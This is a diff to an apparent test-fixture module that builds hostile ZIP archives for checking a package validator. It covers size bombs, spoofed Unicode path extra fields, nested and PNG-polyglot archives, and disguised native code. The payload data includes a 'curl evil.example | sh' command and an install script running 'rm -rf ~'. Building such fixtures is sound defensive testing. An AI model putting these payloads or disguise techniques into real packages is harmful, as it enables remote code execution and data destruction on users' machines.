@@ -6,6 +6,7 @@ at the byte level in both the local header and the central directory.
 """
 
 import base64
+import gzip
 import io
 import json
 import os
@@ -13,6 +14,7 @@ import stat
 import struct
 import warnings
 import zipfile
+import zlib
 from collections.abc import Callable, Iterable
 from dataclasses import dataclass
 from functools import cache
@@ -46,6 +48,7 @@ class Entry:
     mode: int | None = None
     compress_type: int = zipfile.ZIP_DEFLATED
     dos_attr: int = 0
+    extra: bytes = b""
 
     def info(self) -> zipfile.ZipInfo:
         info = zipfile.ZipInfo(self.name, date_time=(2026, 1, 1, 0, 0, 0))
@@ -54,6 +57,7 @@ class Entry:
         mode = self.mode if self.mode is not None else (DIR_MODE if is_dir else FILE_MODE)
         info.external_attr = (mode << 16) | self.dos_attr | (0x10 if is_dir else 0)
         info.compress_type = zipfile.ZIP_STORED if is_dir else self.compress_type
+        info.extra = self.extra  # zipfile writes it in the local header and the directory
         return info
 
 
@@ -287,10 +291,10 @@ def ratio_bomb() -> bytes:
 def declared_size_bomb() -> bytes:
     """Two stored entries whose headers claim 150 MiB each (the data is small)."""
     data = with_entries(
-        Entry(f"{TECHNICAL_NAME}/a.bin", b"a" * 100, compress_type=zipfile.ZIP_STORED),
-        Entry(f"{TECHNICAL_NAME}/b.bin", b"b" * 100, compress_type=zipfile.ZIP_STORED),
+        Entry(f"{TECHNICAL_NAME}/a.txt", b"a" * 100, compress_type=zipfile.ZIP_STORED),
+        Entry(f"{TECHNICAL_NAME}/b.txt", b"b" * 100, compress_type=zipfile.ZIP_STORED),
     )
-    for name in ("a.bin", "b.bin"):
+    for name in ("a.txt", "b.txt"):
         data = patch_entry(
             data, f"{TECHNICAL_NAME}/{name}", file_size=150 * MiB, compress_size=150 * MiB
         )
@@ -302,7 +306,7 @@ def real_size_bomb() -> bytes:
     chunks = [os.urandom(200 * 1024) for _ in range(3)]
     return with_entries(
         *(
-            Entry(f"{TECHNICAL_NAME}/static/blob{i}.bin", chunk, compress_type=zipfile.ZIP_STORED)
+            Entry(f"{TECHNICAL_NAME}/static/blob{i}.png", chunk, compress_type=zipfile.ZIP_STORED)
             for i, chunk in enumerate(chunks)
         )
     )
@@ -513,3 +517,79 @@ def trailing_bytes_in_member() -> bytes:
     data = with_entries(Entry(f"{TECHNICAL_NAME}/last.py", b"x = 1\n" * 100))
     data = insert_before_directory(data, b"junk!")
     return patch_entry(data, f"{TECHNICAL_NAME}/last.py", compress_size=lambda n: n + 5)
+
+
+def unicode_extra(header_id: int, name: str, text: str) -> bytes:
+    """An Info-ZIP Unicode path (0x7075) or comment (0x6375) extra field for ``name``:
+    version 1, the CRC-32 of the header's own name or comment, then the UTF-8 text."""
+    body = b"\x01" + struct.pack("<L", zlib.crc32(name.encode())) + text.encode()
+    return struct.pack("<HH", header_id, len(body)) + body
+
+
+_DECOY = f"{TECHNICAL_NAME}/notes.txt"
+_HIDDEN_CODE = b"import os\nos.system('curl evil.example | sh')\n"
+
+
+def unicode_path_extra(target: str = f"{TECHNICAL_NAME}/evil.py") -> bytes:
+    """A harmless name in both headers, but ``unzip`` writes the file as ``target``."""
+    return with_entries(Entry(_DECOY, _HIDDEN_CODE, extra=unicode_extra(0x7075, _DECOY, target)))
+
+
+def unicode_path_extra_native() -> bytes:
+    return unicode_path_extra(f"{TECHNICAL_NAME}/_speedups.cpython-311-x86_64-linux-gnu.so")
+
+
+def unicode_comment_extra() -> bytes:
+    return with_entries(Entry(_DECOY, b"notes\n", extra=unicode_extra(0x6375, "", "pkg/evil.py")))
+
+
+def unicode_path_extra_local_only() -> bytes:
+    """The directory's extra field is renumbered to an unknown (ignored) ID; the local
+    header still carries the Unicode path, for extractors that walk local headers."""
+    data = unicode_path_extra()
+    patched = bytearray(data)
+    for record, name, _ in _central_records(data):
+        if name == _DECOY:
+            struct.pack_into("<H", patched, record + 46 + len(name.encode()), 0xCAFE)
+    assert bytes(patched) != data
+    return bytes(patched)
+
+
+def vendored_code() -> bytes:
+    """A zip of code with an ``__init__`` that puts it on ``sys.path``."""
+    return build_zip([Entry("evil/__init__.py", _HIDDEN_CODE)])
+
+
+def nested_archive(name: str = "vendor.zip") -> Callable[[], bytes]:
+    def build() -> bytes:
+        here = "os.path.dirname(__file__)"
+        init = f"import sys, os\nsys.path.insert(0, os.path.join({here}, {name!r}))\n"
+        return with_entries(
+            Entry(f"{TECHNICAL_NAME}/{name}", vendored_code()),
+            Entry(f"{TECHNICAL_NAME}/loader.py", init.encode()),
+        )
+
+    return build
+
+
+def disguised_nested_archive() -> bytes:
+    """A zip under an allowed name: ``zipimport`` reads it from any file on ``sys.path``."""
+    return nested_archive("vendor.txt")()
+
+
+def polyglot_image() -> bytes:
+    """A real-looking PNG with a zip of code appended: still importable from."""
+    png = b"\x89PNG\r\n\x1a\n" + bytes(64)
+    return with_entries(Entry(f"{TECHNICAL_NAME}/static/logo.png", png + vendored_code()))
+
+
+def gzip_member() -> bytes:
+    return with_entries(Entry(f"{TECHNICAL_NAME}/data.json", gzip.compress(b"{}")))
+
+
+def disguised_native_code() -> bytes:
+    return with_entries(Entry(f"{TECHNICAL_NAME}/helper", b"\x7fELF\x02\x01\x01" + bytes(57)))
+
+
+def disallowed_file_type() -> bytes:
+    return with_entries(Entry(f"{TECHNICAL_NAME}/install.sh", b"#!/bin/sh\nrm -rf ~\n"))
